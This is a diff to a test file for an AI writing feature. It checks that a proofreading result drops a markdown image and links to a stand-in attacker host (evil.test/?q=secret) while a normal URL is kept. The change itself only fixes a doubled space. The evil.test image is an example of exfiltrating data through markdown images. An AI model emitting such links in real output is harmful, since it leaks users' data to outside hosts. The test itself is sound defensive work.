@@ -96,7 +96,7 @@ describe('what the AI writes when someone asks for it (specification 2.8)', () =
       '```\nDer Sommer war lang, und die Gäste kamen\nvon https://hotel.test herüber. ![x](https://evil.test/?q=secret) Mehr: https://evil.test/a [hier](https://evil.test)\n```',
     );
     expect(await choices({ help: 'proofread' })).toEqual([
-      'Der Sommer war lang, und die Gäste kamen von https://hotel.test herüber. x Mehr:  hier',
+      'Der Sommer war lang, und die Gäste kamen von https://hotel.test herüber. x Mehr: hier',
     ]);
     provider.say('Langer Sommer, Gäste von https://hotel.test.');
     expect(await choices({ help: 'shorten' })).toEqual(['Langer Sommer, Gäste von https://hotel.test.']);
